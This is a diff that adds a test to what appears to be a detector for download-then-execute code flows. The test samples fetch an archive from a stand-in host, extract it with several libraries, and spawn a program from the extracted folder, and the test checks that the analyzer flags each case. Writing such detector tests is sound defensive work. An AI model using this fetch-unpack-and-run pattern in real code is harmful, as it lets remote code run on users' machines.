@@ -40,4 +40,19 @@ describe('archives', () => {
       'application-changed import',
     ]);
   });
+
+  it('leave in a folder what may be run from there', () => {
+    const run = (unpack: string, started = `os.tmpdir() + '/x/tool'`) =>
+      flowsOf(`fetch('https://load.invalid/a.zip').then((r) => r.arrayBuffer()).then(async (b) => { const out = os.tmpdir() + '/x', file = os.tmpdir() + '/a.zip';
+        fs.writeFileSync(file, Buffer.from(b)); ${unpack} cp.spawn(${started}, []); });`);
+    for (const unpack of [
+      `new (require('adm-zip'))(Buffer.from(b)).extractAllTo(out, true);`,
+      `new (require('adm-zip'))(file).extractAllTo(out);`,
+      `await require('extract-zip')(file, { dir: out });`,
+      `await require('tar').x({ file, cwd: out });`,
+    ]) {
+      assert.deepEqual(run(unpack), ['downloaded>written-and-run'], unpack);
+      assert.deepEqual(run(unpack, `'git'`), [], unpack);
+    }
+  });
 });
